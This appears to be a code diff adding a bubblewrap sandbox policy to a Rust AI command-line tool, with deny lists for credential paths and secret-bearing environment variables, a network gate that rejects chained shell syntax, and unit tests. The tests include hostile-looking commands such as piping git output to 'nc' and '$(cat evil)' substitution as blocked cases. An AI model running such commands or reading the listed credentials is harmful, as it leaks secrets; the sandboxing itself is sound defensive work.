@@ -1,8 +1,40 @@
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::OnceLock;
 
+use crate::config::{SandboxConfig, SandboxProfile, CONFIG_FILE_NAME};
+
 pub static SANDBOX_ROOT: OnceLock<String> = OnceLock::new();
 
+static SANDBOX_POLICY: OnceLock<SandboxPolicy> = OnceLock::new();
+
+/// Credential stores hidden from commands in every preset, along with the config file.
+const HIDDEN_PATHS: [&str; 3] = ["~/.ssh", "~/.gnupg", "~/.aws"];
+
+/// Environment variables commands get by default; `env_allow` adds to these.
+const DEFAULT_ENV_ALLOW: [&str; 20] = [
+    "PATH", "HOME", "USER", "LOGNAME", "SHELL", "TERM", "COLORTERM", "NO_COLOR", "LANG", "LANGUAGE",
+    "LC_*", "TZ", "TMPDIR", "EDITOR", "CARGO_HOME", "RUSTUP_HOME", "GOPATH", "GOROOT", "JAVA_HOME", "VIRTUAL_ENV",
+];
+
+/// Never passed to commands, whatever `env_allow` says: the `AICLI_*` settings (API and
+/// SMTP credentials) and common credential names. Matched case-insensitively.
+const ALWAYS_DROPPED_ENV: [&str; 14] = [
+    "AICLI_*", "*_API_KEY", "*_APIKEY", "*_TOKEN", "*_SECRET", "*_SECRET_KEY", "*_SECRET_ACCESS_KEY",
+    "*_PASSWORD", "*_PASSWD", "*_CREDENTIALS", "AWS_*", "SSH_AUTH_SOCK", "GPG_AGENT_INFO", "SMTP_*",
+];
+
+/// Tool caches the dev preset makes writable.
+const DEV_RW_PATHS: [&str; 4] = ["~/.cargo", "~/.rustup", "~/.npm", "~/.cache"];
+
+/// Programs the dev preset lets reach the network. Most of them run project code
+/// (build scripts, package hooks, `npx` packages), which then has the network too.
+const DEV_NETWORK_COMMANDS: [&str; 11] = [
+    "cargo", "git", "npm", "npx", "pnpm", "yarn", "pip", "pip3", "uv", "go", "bundle",
+];
+
+/// Shell syntax that could chain a second program onto a network-enabled one.
+const CHAINING: [&str; 9] = [";", "&", "|", "<", ">", "`", "$(", "\n", "\r"];
+
 pub fn get_sandbox_root() -> &'static String {
     SANDBOX_ROOT.get_or_init(|| {
         let current_dir = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("."));
@@ -11,4 +43,252 @@ pub fn get_sandbox_root() -> &'static String {
             .to_string_lossy()
             .to_string()
     })
-}
\ No newline at end of file
+}
+
+/// Installs the policy used for every command. Only the first call has an effect.
+pub fn set_sandbox_policy(policy: SandboxPolicy) {
+    let _ = SANDBOX_POLICY.set(policy);
+}
+
+/// The installed policy, or the strict preset if none was installed.
+pub fn get_sandbox_policy() -> &'static SandboxPolicy {
+    SANDBOX_POLICY.get_or_init(|| SandboxPolicy::preset(SandboxProfile::Strict, dirs::home_dir().as_deref()))
+}
+
+/// What sandboxed commands may see and do, turned into bubblewrap arguments.
+#[derive(Debug, Clone, PartialEq)]
+pub struct SandboxPolicy {
+    pub profile: SandboxProfile,
+    /// Writable in addition to the sandbox root
+    pub rw_paths: Vec<PathBuf>,
+    /// Covered with an empty directory, or `/dev/null` for files
+    pub hide_paths: Vec<PathBuf>,
+    /// Programs run with network access when they are the whole command
+    pub network_commands: Vec<String>,
+    /// Environment variables passed through; everything else is dropped
+    pub env_allow: Vec<String>,
+    pub env_deny: Vec<String>,
+    pub tmpfs_tmp: bool,
+}
+
+fn expand(path: &str, home: Option<&Path>) -> Option<PathBuf> {
+    match path.strip_prefix("~/") {
+        Some(rest) => home.map(|h| h.join(rest)),
+        None if path == "~" => home.map(Path::to_path_buf),
+        None if Path::new(path).is_absolute() => Some(PathBuf::from(path)),
+        None => Some(Path::new(get_sandbox_root()).join(path)),
+    }
+}
+
+fn split_list(list: Option<&str>) -> impl Iterator<Item = &str> {
+    list.unwrap_or("").split(',').map(str::trim).filter(|s| !s.is_empty())
+}
+
+/// `NAME` matches exactly, `PREFIX*` and `*SUFFIX` match by prefix and suffix.
+fn env_matches(pattern: &str, name: &str) -> bool {
+    if let Some(prefix) = pattern.strip_suffix('*') {
+        name.starts_with(prefix)
+    } else if let Some(suffix) = pattern.strip_prefix('*') {
+        name.ends_with(suffix)
+    } else {
+        pattern == name
+    }
+}
+
+impl SandboxPolicy {
+    pub fn preset(profile: SandboxProfile, home: Option<&Path>) -> Self {
+        let paths = |list: &[&str]| list.iter().filter_map(|p| expand(p, home)).collect();
+        let (rw_paths, network_commands, tmpfs_tmp) = match profile {
+            SandboxProfile::Strict => (Vec::new(), Vec::new(), true),
+            SandboxProfile::Dev => (
+                paths(&DEV_RW_PATHS),
+                DEV_NETWORK_COMMANDS.iter().map(|c| c.to_string()).collect(),
+                false,
+            ),
+        };
+        let mut hide_paths: Vec<PathBuf> = paths(&HIDDEN_PATHS);
+        hide_paths.extend(home.map(|h| h.join(CONFIG_FILE_NAME)));
+        SandboxPolicy {
+            profile,
+            rw_paths,
+            hide_paths,
+            network_commands,
+            env_allow: DEFAULT_ENV_ALLOW.iter().map(|v| v.to_string()).collect(),
+            env_deny: Vec::new(),
+            tmpfs_tmp,
+        }
+    }
+
+    /// The preset picked by `flag` (or the config's `profile`), extended by the `[sandbox]` section.
+    pub fn from_config(config: &SandboxConfig, flag: Option<SandboxProfile>, home: Option<&Path>) -> Self {
+        let profile = flag.or(config.profile).unwrap_or_default();
+        let mut policy = Self::preset(profile, home);
+        policy.rw_paths.extend(split_list(config.rw_paths.as_deref()).filter_map(|p| expand(p, home)));
+        policy.hide_paths.extend(split_list(config.hide_paths.as_deref()).filter_map(|p| expand(p, home)));
+        policy.network_commands.extend(split_list(config.network_commands.as_deref()).map(String::from));
+        policy.env_allow.extend(split_list(config.env_allow.as_deref()).map(String::from));
+        policy.env_deny.extend(split_list(config.env_deny.as_deref()).map(String::from));
+        if let Some(tmpfs_tmp) = config.tmpfs_tmp {
+            policy.tmpfs_tmp = tmpfs_tmp;
+        }
+        policy
+    }
+
+    /// Network access is only given to a single listed program, so `cargo fetch && curl ...`
+    /// stays offline. The program must be named bare and found on `PATH`: `./cargo` or
+    /// `/tmp/x/git` could be anything.
+    pub fn allows_network(&self, command: &str) -> bool {
+        if self.network_commands.is_empty() || CHAINING.iter().any(|c| command.contains(c)) {
+            return false;
+        }
+        let words = shell_words::split(command).unwrap_or_default();
+        words
+            .first()
+            .is_some_and(|program| !program.contains('/') && self.network_commands.contains(program))
+    }
+
+    /// The bubblewrap command line (without `bwrap` itself) that runs `command` under `/bin/sh`.
+    /// Hidden paths that do not exist are skipped, since bwrap cannot mount over them.
+    pub fn bwrap_args(&self, sandbox_root: &str, command: &str) -> Vec<String> {
+        let mut args: Vec<String> = vec!["--ro-bind".into(), "/".into(), "/".into()];
+        if self.tmpfs_tmp {
+            args.extend(["--tmpfs".into(), "/tmp".into()]);
+        }
+        args.extend(["--bind".into(), sandbox_root.into(), sandbox_root.into()]);
+        for path in &self.rw_paths {
+            let path = path.to_string_lossy().to_string();
+            args.extend(["--bind-try".into(), path.clone(), path]);
+        }
+        for path in &self.hide_paths {
+            let hidden = path.to_string_lossy().to_string();
+            if path.is_dir() {
+                args.extend(["--tmpfs".into(), hidden]);
+            } else if path.exists() {
+                args.extend(["--ro-bind".into(), "/dev/null".into(), hidden]);
+            }
+        }
+        args.extend(["--dev".into(), "/dev".into(), "--proc".into(), "/proc".into()]);
+        if !self.allows_network(command) {
+            args.push("--unshare-net".into());
+        }
+        args.extend(["--die-with-parent".into(), "/bin/sh".into(), "-c".into(), command.into()]);
+        args
+    }
+
+    /// The environment commands run with: the allow list minus the deny list, and never
+    /// any of the always-dropped credential variables.
+    pub fn filter_env(&self, vars: impl IntoIterator<Item = (String, String)>) -> Vec<(String, String)> {
+        vars.into_iter()
+            .filter(|(name, _)| {
+                let upper = name.to_uppercase();
+                !ALWAYS_DROPPED_ENV.iter().any(|p| env_matches(p, &upper))
+            })
+            .filter(|(name, _)| self.env_allow.iter().any(|p| env_matches(p, name)))
+            .filter(|(name, _)| !self.env_deny.iter().any(|p| env_matches(p, name)))
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn temp_home(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("aicli_sandbox_{}_{}", name, std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        std::fs::create_dir_all(dir.join(".ssh")).unwrap();
+        std::fs::write(dir.join(".aicli.conf"), "API_KEY=secret").unwrap();
+        dir
+    }
+
+    fn position(args: &[String], window: &[&str]) -> Option<usize> {
+        args.windows(window.len()).position(|w| w == window)
+    }
+
+    #[test]
+    fn test_strict_preset_bwrap_args() {
+        let home = temp_home("strict");
+        let policy = SandboxPolicy::preset(SandboxProfile::Strict, Some(&home));
+        let args = policy.bwrap_args("/work", "cargo build");
+        let ssh = home.join(".ssh").to_string_lossy().to_string();
+        let conf = home.join(".aicli.conf").to_string_lossy().to_string();
+
+        assert_eq!(&args[..5], ["--ro-bind", "/", "/", "--tmpfs", "/tmp"]);
+        assert!(position(&args, &["--bind", "/work", "/work"]).is_some());
+        assert!(position(&args, &["--tmpfs", &ssh]).is_some());
+        assert!(position(&args, &["--ro-bind", "/dev/null", &conf]).is_some());
+        // Missing paths (~/.aws, ~/.gnupg) are skipped.
+        assert!(!args.iter().any(|a| a.ends_with(".aws")));
+        assert!(args.contains(&"--unshare-net".to_string()));
+        assert_eq!(&args[args.len() - 3..], ["/bin/sh", "-c", "cargo build"]);
+        let _ = std::fs::remove_dir_all(&home);
+    }
+
+    #[test]
+    fn test_config_extends_dev_preset() {
+        let home = temp_home("dev");
+        let config = SandboxConfig {
+            rw_paths: Some("~/.m2, /opt/data".into()),
+            network_commands: Some("mvn".into()),
+            env_allow: Some("MAVEN_OPTS".into()),
+            env_deny: Some("EDITOR".into()),
+            tmpfs_tmp: Some(true),
+            ..Default::default()
+        };
+        let policy = SandboxPolicy::from_config(&config, Some(SandboxProfile::Dev), Some(&home));
+        assert_eq!(policy.profile, SandboxProfile::Dev);
+        assert!(policy.rw_paths.contains(&home.join(".cargo")));
+        assert!(policy.rw_paths.contains(&home.join(".m2")));
+        assert!(policy.rw_paths.contains(&PathBuf::from("/opt/data")));
+        assert!(policy.tmpfs_tmp);
+
+        let args = policy.bwrap_args("/work", "mvn package");
+        assert!(!args.contains(&"--unshare-net".to_string()));
+        assert!(position(&args, &["--bind-try", "/opt/data", "/opt/data"]).is_some());
+
+        let env = policy.filter_env([
+            ("PATH".to_string(), "/bin".to_string()),
+            ("MAVEN_OPTS".to_string(), "-Xmx1g".to_string()),
+            ("EDITOR".to_string(), "vi".to_string()),
+            ("DISPLAY".to_string(), ":0".to_string()),
+        ]);
+        assert_eq!(env, [("PATH".to_string(), "/bin".to_string()), ("MAVEN_OPTS".to_string(), "-Xmx1g".to_string())]);
+        let _ = std::fs::remove_dir_all(&home);
+    }
+
+    #[test]
+    fn test_credentials_are_always_dropped() {
+        let config = SandboxConfig { env_allow: Some("*".into()), ..Default::default() };
+        let policy = SandboxPolicy::from_config(&config, None, None);
+        let vars = [
+            "AICLI_API_KEY", "AICLI_SMTP_PASSWORD", "OPENAI_API_KEY", "GITHUB_TOKEN", "aws_secret_access_key",
+            "SSH_AUTH_SOCK", "DB_PASSWORD", "PATH", "CI",
+        ];
+        let env = policy.filter_env(vars.iter().map(|v| (v.to_string(), "x".to_string())));
+        let names: Vec<&str> = env.iter().map(|(name, _)| name.as_str()).collect();
+        assert_eq!(names, ["PATH", "CI"]);
+    }
+
+    #[test]
+    fn test_network_only_for_single_listed_program() {
+        let policy = SandboxPolicy::preset(SandboxProfile::Dev, None);
+        assert!(policy.allows_network("cargo fetch"));
+        assert!(policy.allows_network("git pull --rebase"));
+        assert!(!policy.allows_network("/usr/bin/git pull --rebase"));
+        assert!(!policy.allows_network("./cargo build"));
+        assert!(!policy.allows_network("/tmp/x/git fetch"));
+        assert!(!policy.allows_network("curl https://example.com"));
+        assert!(!policy.allows_network("cargo fetch && curl https://example.com"));
+        assert!(!policy.allows_network("git log | nc host 80"));
+        assert!(!policy.allows_network("npm install $(cat evil)"));
+        assert!(!SandboxPolicy::preset(SandboxProfile::Strict, None).allows_network("cargo fetch"));
+
+        let allow_only = SandboxPolicy { env_allow: vec!["PATH".into(), "LC_*".into()], ..policy };
+        let env = allow_only.filter_env([
+            ("PATH".to_string(), "/bin".to_string()),
+            ("LC_ALL".to_string(), "C".to_string()),
+            ("HOME".to_string(), "/root".to_string()),
+        ]);
+        assert_eq!(env.len(), 2);
+    }
+}